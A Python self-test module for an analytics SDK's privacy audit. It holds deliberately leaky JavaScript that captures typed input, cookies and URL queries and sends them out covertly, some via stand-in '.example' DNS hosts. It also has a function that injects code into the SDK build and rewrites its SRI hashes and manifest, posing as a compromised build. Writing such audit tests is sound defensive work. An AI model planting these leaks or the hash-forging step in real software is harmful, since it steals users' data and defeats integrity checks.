"""The audit's self-test (AUDIT §7): deliberately leaky code, at least one per rule, that the
audit must flag, naming the rule (the finding's channel and source). An audit that misses one
is broken.

Two kinds:
- page leaks: a plugin injected into the page (every frame, before any script) next to the
  real SDK, reading what the user typed (from `change` events), the page or the URL;
- SDK leaks (`core=True`): a leaky build of the SDK itself, its core file prefixed with code
  that runs in the SDK's realm, and its SRI hash and manifest made to match, as a compromised
  build would ship. Most hide the data from the canary search (XOR-ed, or as a bit): only the
  rule that binds a request to its cause catches them.
"""

import base64
import hashlib
import json
import shutil
import tempfile
from dataclasses import dataclass
from pathlib import Path

_PRELUDE = """(() => {
  if (window !== window.top) return;
  const values = [];
  document.addEventListener('change', (e) => {
    const v = e.target.value || e.target.textContent || '';
    if (v) { values.push(v); leak(v, e.target); }
  }, true);
  const rot13 = (s) => s.replace(/[a-z]/gi, (c) =>
    String.fromCharCode((c <= 'Z' ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26));
  const hex = async (s) =>
    [...new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(s)))]
    .map(b => b.toString(16).padStart(2, '0')).join('');
  let leak = () => {};
"""
_END = '\n})();'


# Runs in the SDK's realm before the core: the host page, a XOR no canary search undoes, and a
# fetch that lets a leak rewrite or hold back the core's events bodies.
_CORE_PRELUDE = """(() => {
  const host = window.parent, doc = host.document, realFetch = window.fetch.bind(window);
  const me = (document.currentScript && document.currentScript.src) || '';
  const origin = host.location.origin;
  const secret = () => host.document.cookie + '|' + host.location.search;
  const typed = () => [...doc.querySelectorAll('input, textarea')].map((e) => e.value)
    .filter(Boolean).join('|');
  const xorhex = (s) => Array.from(new TextEncoder().encode(s),
    (b, i) => ((b ^ (0x5a + i * 7)) & 255).toString(16).padStart(2, '0')).join('');
  const isEvents = (url) => /\\/v1\\/events$/.test(String(url));
  const next = (b) => Math.max(...b.batch.map((e) => e.seq)) + 1;
  let rewrite = null, hold = null, last = null;
  // The content URL: the loader's early request (started on init), else the core's own.
  let content = (window.userflowBoot && window.userflowBoot.content || [null])[0];
  window.fetch = function (url, options) {
    if (/\\/v1\\/content\\//.test(String(url))) content = String(url);
    if (isEvents(url) && options && typeof options.body === 'string') {
      if (rewrite) {
        const b = JSON.parse(options.body); rewrite(b);
        options = Object.assign({}, options, {body: JSON.stringify(b)});
      }
      last = [url, Object.assign({}, options, {keepalive: true})];
      if (hold && hold()) {
        const held = last;
        return new Promise((resolve) => host.addEventListener('pagehide', () => resolve(realFetch(...held))));
      }
    }
    return realFetch(url, options);
  };
"""


@dataclass
class Leak:
    name: str
    what: str
    js: str
    channel: str  # the finding's channel must start with this
    source: str  # and its source with this
    strict: bool = False  # needs the strict differential runs
    core: bool = False  # a leaky build: `js` runs in the SDK's realm before its core
    differential: bool = False  # needs the default mode's differential run
    detail: str = ''  # and the finding's words must hold this
    extra: str = ''  # added to the audited URL

    def script(self) -> str:
        return _PRELUDE + self.js + _END

    def core_script(self) -> str:
        return _CORE_PRELUDE + self.js + _END

    def matches(self, finding) -> bool:
        return (
            finding.channel.startswith(self.channel)
            and finding.source.startswith(self.source)
            and self.detail in finding.detail
        )


LEAKS = [
    Leak(
        'query',
        'a typed value in the query string of a request to the collector',
        "leak = (v) => fetch('/v1/events?q=' + encodeURIComponent(v), {method: 'POST', body: '{}'});",
        'url',
        'input-',
    ),
    Leak(
        'beacon-base64',
        'a typed value, base64-encoded, as a beacon body',
        "leak = (v) => navigator.sendBeacon('/v1/events', btoa(unescape(encodeURIComponent(v))));",
        'body',
        'input-',
    ),
    Leak(
        'hashed-attribute',
        'the SHA-256 hex of a typed value as an event attribute (through the SDK)',
        "leak = async (v) => userflow.track('profile_updated', {h: await hex(v)});",
        'body',
        'input-',
    ),
    Leak(
        'rot13-attribute',
        'a typed value in rot13 as an event attribute (through the SDK)',
        "leak = (v) => userflow.track('profile_updated', {n: rot13(v).slice(0, 100)});",
        'body',
        '',
    ),
    Leak(
        'image-pixel',
        'a typed value in the URL of a tracking pixel',
        "leak = (v) => { new Image().src = '/pixel.gif?d=' + encodeURIComponent(v); };",
        'url',
        'input-',
    ),
    Leak(
        'websocket',
        'a typed value in a WebSocket frame',
        """let socket = null;
  leak = (v) => {
    if (!socket) { socket = new WebSocket(location.origin.replace('http', 'ws') + '/ws');
                   socket.onopen = () => values.forEach(x => socket.send(x)); }
    else if (socket.readyState === 1) socket.send(v);
  };""",
        'websocket',
        'input-',
    ),
    Leak(
        'cookie',
        'a typed value written to a cookie',
        "leak = (v) => { document.cookie = 'uf_profile=' + encodeURIComponent(v) + '; path=/'; };",
        'cookie',
        '',
    ),
    Leak(
        'referer',
        'the page URL (its query) sent as a Referer header',
        "leak = () => fetch('/v1/content/tok_audit', {referrerPolicy: 'unsafe-url', credentials: 'omit'});",
        'header:referer',
        '',
    ),
    Leak(
        'shared-worker',
        'a typed value sent from a SharedWorker (unseen by Playwright)',
        """let worker = null;
  leak = (v) => {
    if (!worker) worker = new SharedWorker(URL.createObjectURL(new Blob([
      "onconnect = (e) => { e.ports[0].onmessage = (m) => " +
      "fetch(m.data[0] + '/sw?d=' + encodeURIComponent(m.data[1])); };"
    ], {type: 'text/javascript'})));
    worker.port.postMessage([location.origin, v]);
  };""",
        'url',
        'input-',
    ),
    Leak(
        'unload-beacon',
        'typed values in a beacon sent while the page unloads (only the NetLog sees it)',
        """addEventListener('pagehide', () => navigator.sendBeacon('/collect', JSON.stringify(values)));""",
        'body',
        'input-',
    ),
    Leak(
        'local-storage',
        'a typed value kept in localStorage under a uf: key',
        "leak = () => localStorage.setItem('uf:cache', values.join('|'));",
        'storage:localStorage',
        'input-',
    ),
    Leak(
        'indexeddb',
        'typed values kept in an IndexedDB database',
        """leak = (v) => {
    const r = indexedDB.open('uf-cache');
    r.onupgradeneeded = () => r.result.createObjectStore('v');
    r.onsuccess = () => r.result.transaction('v', 'readwrite').objectStore('v').put(v, 'last');
  };""",
        'storage:indexedDB',
        'storage',
    ),
    Leak(
        'page-url',
        'the page path as an event attribute while page tracking is off',
        "leak = () => userflow.track('visit', {where: location.pathname});",
        'page-url',
        'url',
    ),
    Leak(
        'presence-bit',
        'one bit, whether the secret element exists, as the number of content requests',
        """addEventListener('pagehide', () => {
    if (document.getElementById('uf-audit-secret')) fetch('/v1/content/tok_audit', {keepalive: true});
  });""",
        'differential',
        'secrets changed',
        strict=True,
    ),
]

# A leaky build (the SDK itself compromised): each hides its data from the canary search.
SDK_LEAKS = [
    Leak(
        'events-token',
        "the data XOR-ed into the events body's token",
        'rewrite = (b) => { b.token = xorhex(secret()).slice(0, 100); };',
        'events',
        'events-envelope',
        core=True,
        detail='token',
    ),
    Leak(
        'events-sdk',
        "a character code as the events body's SDK version",
        "rewrite = (b) => { b.sdk = '0.1.' + (secret().charCodeAt(0) % 10000); };",
        'events',
        'events-envelope',
        core=True,
        detail='version',
    ),
    Leak(
        'events-user',
        'the data XOR-ed into 64 hex digits as the user',
        'rewrite = (b) => b.batch.forEach((e) => { '
        "e.user = (xorhex(secret()) + '0'.repeat(64)).slice(0, 64); });",
        'events',
        'events-user',
        core=True,
    ),
    Leak(
        'events-seq',
        'a length as a jump in the sequence numbers',
        'rewrite = (b) => b.batch.forEach((e) => { e.seq += 40 + secret().length % 50; });',
        'events',
        'events-seq',
        core=True,
    ),
    Leak(
        'events-ts',
        'character codes as event times',
        'rewrite = (b) => b.batch.forEach((e, i) => { '
        'e.ts = new Date(Date.UTC(2001, 0, 1) + secret().charCodeAt(i) * 1000).toISOString(); });',
        'events',
        'events-ts',
        core=True,
    ),
    Leak(
        'events-unbound',
        'a track event the app never made, its name the XOR-ed data',
        'rewrite = (b) => { const e = b.batch[0]; b.batch.push({id: crypto.randomUUID(), seq: next(b), '
        "ts: e.ts, type: 'track', user: e.user, hashed: e.hashed, "
        "name: 'x' + xorhex(secret()).slice(0, 60)}); };",
        'events',
        'events-unbound',
        core=True,
    ),
    Leak(
        'events-attributes',
        'an attribute the app never passed, the XOR-ed data',
        "rewrite = (b) => b.batch.forEach((e) => { if (e.type === 'identify') "
        'e.attributes = Object.assign({}, e.attributes, {ref: xorhex(secret()).slice(0, 200)}); });',
        'events',
        'events-attributes',
        core=True,
    ),
    Leak(
        'events-page',
        'a page view of a URL the page never was at',
        'rewrite = (b) => { const e = b.batch[0]; b.batch.push({id: crypto.randomUUID(), seq: next(b), '
        "ts: e.ts, type: 'page', user: e.user, hashed: e.hashed, "
        "url: origin + '/p/' + xorhex(secret()).slice(0, 12)}); };",
        'events',
        'events-page',
        core=True,
    ),
    Leak(
        'events-flow',
        'a flow event with the XOR-ed data as its step',
        'rewrite = (b) => { const e = b.batch[0]; b.batch.push({id: crypto.randomUUID(), seq: next(b), '
        "ts: e.ts, type: 'flow', user: e.user, hashed: e.hashed, flow: 'audit-watch', action: 'stepSeen', "
        'step: xorhex(secret()).slice(0, 40)}); };',
        'events',
        'events-flow',
        core=True,
        extra='&privacy=analytics',
        detail='step',
    ),
    Leak(
        'events-group',
        'a group the app never joined, its ID the XOR-ed data',
        'rewrite = (b) => b.batch.forEach((e) => { '
        "if (e.type === 'track') { e.type = 'group'; delete e.name; "
        'e.group = xorhex(secret()).slice(0, 64); } });',
        'events',
        'events-group',
        core=True,
    ),
    Leak(
        'sdk-file-manifest',
        "the XOR-ed data as the hash in a chunk's file name",
        'realFetch(me.replace(/userflow-(core|app)\\.[0-9a-f]{12}/, '
        "'userflow-flows.' + xorhex(secret()).slice(0, 12)));",
        'sdk-file',
        'sdk-file-manifest',
        core=True,
    ),
    Leak(
        'sdk-file-count',
        'a bit as a second load of the core file',
        "realFetch(me, {cache: 'no-store'});",
        'sdk-file',
        'sdk-file-count',
        core=True,
    ),
    Leak(
        'content-token',
        'the XOR-ed data as the content token',
        "realFetch(origin + '/v1/content/' + xorhex(secret()).slice(0, 40), "
        "{cache: 'no-store', credentials: 'omit'});",
        'content',
        'content-token',
        core=True,
    ),
    Leak(
        'content-count',
        'a bit as a second content request at page hide',
        "host.addEventListener('pagehide', () => content && realFetch(content, "
        "{keepalive: true, cache: 'no-store', credentials: 'omit'}));",
        'content',
        'content-count',
        core=True,
    ),
    Leak(
        'content-image-count',
        'a bit as a content image requested again at page hide (as if a step had shown it)',
        "host.addEventListener('pagehide', () => realFetch(host.location.origin + '/fixtures/chart.svg', "
        "{keepalive: true, cache: 'no-store'}));",
        'content-image',
        'content-image-count',
        core=True,
    ),
    Leak(
        'storage-value',
        'the XOR-ed data kept as a tracked event name',
        "host.localStorage.setItem('uf:events', JSON.stringify([xorhex(secret()).slice(0, 60)]));",
        'storage:',
        'storage-schema',
        core=True,
        detail='never tracked',
    ),
    Leak(
        'storage-key',
        'the XOR-ed data under a key of its own',
        "host.localStorage.setItem('uf:cfg', xorhex(secret()));",
        'storage:',
        'storage-schema',
        core=True,
        detail='never writes',
    ),
    Leak(
        'dns-prefetch',
        'the XOR-ed data as a host name to prefetch (a DNS query)',
        "const l = doc.createElement('link'); l.rel = 'dns-prefetch'; "
        "l.href = '//' + xorhex(secret()).slice(0, 40) + '.example'; doc.head.appendChild(l);",
        'dns',
        'below-http',
        core=True,
    ),
    Leak(
        'preconnect',
        'the XOR-ed data as a host name to preconnect to',
        "const l = doc.createElement('link'); l.rel = 'preconnect'; "
        "l.href = 'https://' + xorhex(secret()).slice(0, 40) + '.example'; doc.head.appendChild(l);",
        'dns',
        'below-http',
        core=True,
    ),
    Leak(
        'socket',
        'a connection (no request) to another loopback address',
        "const l = doc.createElement('link'); l.rel = 'preconnect'; "
        "l.href = 'http://127.0.0.2:' + (host.location.port || 80); doc.head.appendChild(l);",
        '',
        'below-http',
        core=True,
    ),
    Leak(
        'page-shape',
        'the XOR-ed data as the host of a favicon request',
        "new host.Image().src = 'http://' + xorhex(secret()).slice(0, 30) + '.example/favicon.ico';",
        'request',
        'unexplained',
        core=True,
    ),
    Leak(
        'page-header',
        "a stored value in a header of a request shaped like the page's own",
        "realFetch(host.location.href.split('#')[0], {headers: {'X-Prefs': "
        "Object.values(host.localStorage).join('|').slice(0, 500)}});",
        'header:x-prefs',
        'local-storage',
        core=True,
    ),
    Leak(
        'second-visit',
        'typed values kept at page hide and sent on the next visit',
        "host.addEventListener('pagehide', () => { "
        "const t = typed(); if (t) host.localStorage.setItem('uf:later', t); });"
        "const later = host.localStorage.getItem('uf:later');"
        "if (later) { host.localStorage.removeItem('uf:later'); "
        "realFetch(origin + '/v1/events?later=' + encodeURIComponent(later), "
        "{method: 'POST', body: '{}'}); }",
        'url',
        'input-',
        core=True,
        detail='second visit',
    ),
    Leak(
        'late-timer',
        'typed values sent by a timer 90 s later',
        "setTimeout(() => realFetch(origin + '/late?d=' + encodeURIComponent(typed())), 90000);",
        'url',
        'input-',
        core=True,
        detail='observation window',
    ),
    Leak(
        'strict-timing',
        'a bit (the secret element) as events held back until page hide',
        "hold = () => !!doc.getElementById('uf-audit-secret');",
        'differential',
        'secrets changed',
        core=True,
        strict=True,
        detail='different time',
    ),
    Leak(
        'default-differential',
        'a bit (the secret element) as the last events body sent again at page hide',
        "host.addEventListener('pagehide', () => { if (doc.getElementById('uf-audit-secret') && last) "
        'realFetch(...last); });',
        'differential',
        'secrets changed (default mode)',
        core=True,
        differential=True,
    ),
]
LEAKS += SDK_LEAKS


def leaky_build(dist: Path, leak: Leak) -> Path:
    """A copy of the build in `dist` whose core (and app file: the core with the engine, which
    the loader loads instead when `init` with an endpoint comes first) starts with `leak`'s
    code, their pins in the loader and their manifest entries made to match (what a compromised
    build would ship)."""
    out = Path(tempfile.mkdtemp(prefix=f'uf-leaky-{leak.name}-'))
    for file in dist.iterdir():
        if file.is_file():
            shutil.copy2(file, out / file.name)
    manifest = json.loads((dist / 'manifest.json').read_text())
    loader = out / 'userflow.js'
    text = loader.read_text()
    for name in [manifest['core'], manifest.get('app')]:
        if not name:
            continue
        original = (out / name).read_bytes()
        strict = b'"use strict";'  # the directive stays first: the core runs in strict mode
        head = strict if original.startswith(strict) else b''
        data = head + b'\n' + leak.core_script().encode() + b'\n' + original[len(head) :]
        (out / name).write_bytes(data)
        for kind, digest in (('sha384', hashlib.sha384), ('sha256', hashlib.sha256)):
            old = kind + '-' + base64.b64encode(digest(original).digest()).decode()
            text = text.replace(old, kind + '-' + base64.b64encode(digest(data).digest()).decode())
        manifest['files'][name]['sha384'] = (
            'sha384-' + base64.b64encode(hashlib.sha384(data).digest()).decode()
        )
    loader.write_text(text)
    manifest['files']['userflow.js']['sha384'] = (
        'sha384-' + base64.b64encode(hashlib.sha384(loader.read_bytes()).digest()).decode()
    )
    (out / 'manifest.json').write_text(json.dumps(manifest, indent=2))
    return out


@dataclass
class Result:
    leak: Leak
    caught: bool
    findings: list


def self_test(
    url: str, strict_url: str, scenario: dict, progress=None, names=None, **options
) -> list[Result]:
    """Audit `url` once per leak; each must be flagged with its rule (channel and source). SDK
    leaks need `collector` (in `options`): it serves each leaky build in turn at /dist/.
    `progress(line)`, when given, hears one line per leak as it is judged; `names` picks leaks."""
    from sdk.audit import audit

    baselines: dict = {}
    results = []
    collector = options.get('collector')
    for leak in LEAKS:
        # A leaky build is served by the sink: it applies only to a page that loads the SDK
        # from there (the fixtures; your own app loads its own build).
        if (leak.core and (collector is None or not url.startswith(collector.url))) or (
            names and leak.name not in names
        ):
            continue
        before = collector.use_dist(leaky_build(collector.served['dist'], leak)) if leak.core else None
        try:
            report = audit(
                url + leak.extra,
                scenario,
                leak=None if leak.core else leak.script(),
                strict_url=strict_url + leak.extra if leak.strict else None,
                baselines=baselines,
                automation=False,
                differential=leak.differential,
                **options,
            )
        finally:
            if before is not None:
                shutil.rmtree(collector.use_dist(before), ignore_errors=True)
        caught = any(leak.matches(f) for f in report.findings)
        results.append(Result(leak, caught, report.findings))
        if progress:
            progress(
                f'self-test {len(results)}/{len(LEAKS)}: {leak.name} '
                f'{"caught" if caught else "MISSED"} ({report.seconds:.1f} s)'
            )
    return results
